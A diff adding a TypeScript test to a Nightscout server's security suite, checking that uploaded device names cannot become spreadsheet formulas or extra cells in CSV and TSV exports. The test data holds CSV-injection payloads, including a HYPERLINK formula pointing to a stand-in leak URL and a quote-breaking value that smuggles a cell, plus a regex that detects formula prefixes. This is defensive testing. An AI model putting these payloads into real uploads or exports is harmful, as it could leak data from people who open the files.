@@ -1,7 +1,7 @@
 import { assert, describe, it } from "@effect/vitest"
 import { Effect, Layer } from "effect"
 import { domainLayer } from "../support/domain.ts"
-import { openSite, type SiteCredentials, storedReadings, upload } from "../support/nightscout.ts"
+import { fiveMinutesAgo, openSite, type SiteCredentials, storedReadings, upload } from "../support/nightscout.ts"
 import { get, testServer } from "../support/server.ts"
 
 const core = domainLayer([])
@@ -10,6 +10,32 @@ const withSite = <A, E>(body: (site: SiteCredentials) => Effect.Effect<A, E, any
     Effect.provide(testServer(core).pipe(Layer.provideMerge(core))),
     Effect.scoped
   )
+
+/** The cells of CSV text as a spreadsheet reads them (RFC 4180: quoted cells, `""` for a quote). */
+const csvCells = (text: string): Array<Array<string>> =>
+  text.split("\r\n").map((line) => {
+    const cells: Array<string> = []
+    let cell = ""
+    let quoted = false
+    for (let index = 0; index < line.length; index++) {
+      const character = line[index]!
+      if (quoted) {
+        if (character === '"' && line[index + 1] === '"') {
+          cell += '"'
+          index++
+        } else if (character === '"') quoted = false
+        else cell += character
+      } else if (character === '"') quoted = true
+      else if (character === ",") {
+        cells.push(cell)
+        cell = ""
+      } else cell += character
+    }
+    cells.push(cell)
+    return cells
+  })
+
+const FORMULA = /^[=+\-@\t\r]/
 
 describe("attacks on a user's Nightscout site", () => {
   it.live("a two-digit-year time is that year (before 1970: refused), never read as 19xx", () =>
@@ -36,6 +62,41 @@ describe("attacks on a user's Nightscout site", () => {
           `/ns/alice/api/v1/entries.json?token=${site.readToken}&find[dateString][$lte]=0099-12-31T00:00:00Z`
         )
         assert.deepStrictEqual(before99.body, [])
+      })
+    )
+  )
+
+  it.live("an uploader's device never becomes a formula or a new cell in the CSV and text answers", () =>
+    withSite((site) =>
+      Effect.gen(function* () {
+        const devices = ['=HYPERLINK("http://example.org/?leak","open")', 'xDrip",=1+1,"', "@SUM(1+1)", "+1+1", "-1+1"]
+        const entries = devices.map((device, index) => ({
+          type: "sgv",
+          sgv: 100 + index,
+          date: fiveMinutesAgo(index + 1),
+          device
+        }))
+        assert.strictEqual((yield* upload("/ns/alice/api/v1/entries", entries, site.secretHeader)).status, 200)
+        const csv = yield* get(`/ns/alice/api/v1/entries/sgv.csv?token=${site.readToken}&count=10`)
+        assert.strictEqual(csv.status, 200)
+        const rows = csvCells(csv.body)
+        assert.strictEqual(rows.length, devices.length)
+        for (const cells of rows) {
+          assert.strictEqual(cells.length, 5, JSON.stringify(cells))
+          for (const cell of cells) assert.notMatch(cell, FORMULA, JSON.stringify(cells))
+        }
+        const tsv = yield* get(`/ns/alice/api/v1/entries/sgv.tsv?token=${site.readToken}&count=10`)
+        for (const line of String(tsv.body).split("\r\n")) {
+          const cells = line.split("\t")
+          assert.strictEqual(cells.length, 5)
+          for (const cell of cells) assert.notMatch(cell.replace(/^"/, ""), FORMULA, line)
+        }
+        // JSON answers carry the device as it was sent.
+        const json = yield* get(`/ns/alice/api/v1/entries.json?token=${site.readToken}&count=10`)
+        assert.sameMembers(
+          json.body.map((entry: { device: string }) => entry.device),
+          devices
+        )
       })
     )
   )
